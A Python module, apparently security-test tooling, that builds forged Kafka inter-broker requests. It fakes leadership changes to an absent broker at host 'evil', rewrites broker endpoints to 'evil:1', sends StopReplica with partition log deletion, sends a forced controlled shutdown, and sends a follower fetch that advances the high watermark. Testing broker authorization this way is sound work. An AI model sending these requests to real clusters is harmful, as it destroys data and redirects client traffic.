"""Forged inter-broker requests (a client pretending to be the controller or a replica)."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from kio.schema.fetch.v12 import request as fetch_request
from kio.schema.metadata.v9.request import MetadataRequest, MetadataRequestTopic
from kio.schema.types import BrokerId, TopicName
from kio.static.primitive import i8, i32, i32Timedelta, i64

from trafka.net.client import KafkaConnection
from trafka.net.messages import controlled_shutdown as cs
from trafka.net.messages import leader_and_isr as lai
from trafka.net.messages import stop_replica as sr
from trafka.net.messages import update_metadata as um

HUGE_EPOCH = 2**31 - 1


def leader_and_isr(
    topic: str, *, controller_epoch: int = HUGE_EPOCH, broker_epoch: int = -1
) -> Any:
    """Make broker 99 (absent) the leader of partition 0 with a huge leader epoch."""
    return lai.LeaderAndIsrRequestV4(
        controller_id=BrokerId(1),
        controller_epoch=i32(controller_epoch),
        broker_epoch=i64(broker_epoch),
        topic_states=(
            lai.LeaderAndIsrTopicStateV4(
                topic_name=TopicName(topic),
                partition_states=(
                    lai.LeaderAndIsrPartitionStateV4(
                        partition_index=i32(0),
                        controller_epoch=i32(controller_epoch),
                        leader=BrokerId(99),
                        leader_epoch=i32(HUGE_EPOCH),
                        isr=(BrokerId(99),),
                        zk_version=i32(HUGE_EPOCH),
                        replicas=(BrokerId(99),),
                    ),
                ),
            ),
        ),
        live_leaders=(
            lai.LeaderAndIsrLiveLeaderV4(broker_id=BrokerId(99), host_name="evil", port=i32(1)),
        ),
    )


def update_metadata(*, controller_epoch: int = HUGE_EPOCH, broker_epoch: int = -1) -> Any:
    """Replace broker 1's advertised endpoint with evil:1."""
    return um.UpdateMetadataRequestV6(
        controller_id=BrokerId(1),
        controller_epoch=i32(controller_epoch),
        broker_epoch=i64(broker_epoch),
        topic_states=(),
        live_brokers=(
            um.UpdateMetadataBrokerV6(
                id=BrokerId(1),
                endpoints=(
                    um.UpdateMetadataEndpointV6(port=i32(1), host="evil", listener="CLIENT"),
                    um.UpdateMetadataEndpointV6(port=i32(1), host="evil", listener="INTERNAL"),
                    um.UpdateMetadataEndpointV6(port=i32(1), host="evil", listener="PLAINTEXT"),
                ),
            ),
        ),
    )


def stop_replica(topic: str, *, controller_epoch: int = HUGE_EPOCH, broker_epoch: int = -1) -> Any:
    """Delete partition 0's log."""
    return sr.StopReplicaRequestV2(
        controller_id=BrokerId(1),
        controller_epoch=i32(controller_epoch),
        broker_epoch=i64(broker_epoch),
        delete_partitions=True,
        topics=(sr.StopReplicaTopicV2(name=TopicName(topic), partition_indexes=(i32(0),)),),
    )


def controlled_shutdown(*, broker_epoch: int = 2**62) -> Any:
    return cs.ControlledShutdownRequestV3(broker_id=BrokerId(1), broker_epoch=i64(broker_epoch))


def follower_fetch(topic: str, offset: int, replica_id: int = 1) -> Any:
    """A Fetch claiming to be follower `replica_id` at `offset` (would advance the HW)."""
    return fetch_request.FetchRequest(
        replica_id=BrokerId(replica_id),
        max_wait=i32Timedelta.parse(timedelta(0)),
        min_bytes=i32(0),
        max_bytes=i32(1 << 20),
        isolation_level=i8(0),
        session_id=i32(0),
        session_epoch=i32(-1),
        topics=(
            fetch_request.FetchTopic(
                topic=TopicName(topic),
                partitions=(
                    fetch_request.FetchPartition(
                        partition=i32(0),
                        current_leader_epoch=i32(-1),
                        fetch_offset=i64(offset),
                        last_fetched_epoch=i32(-1),
                        log_start_offset=i64(-1),
                        partition_max_bytes=i32(1 << 20),
                    ),
                ),
            ),
        ),
        forgotten_topics_data=(),
        rack_id="",
    )


async def metadata(connection: KafkaConnection, topic: str) -> Any:
    return await connection.request(
        MetadataRequest(
            topics=(MetadataRequestTopic(name=TopicName(topic)),),
            allow_auto_topic_creation=False,
            include_cluster_authorized_operations=False,
            include_topic_authorized_operations=False,
        )
    )
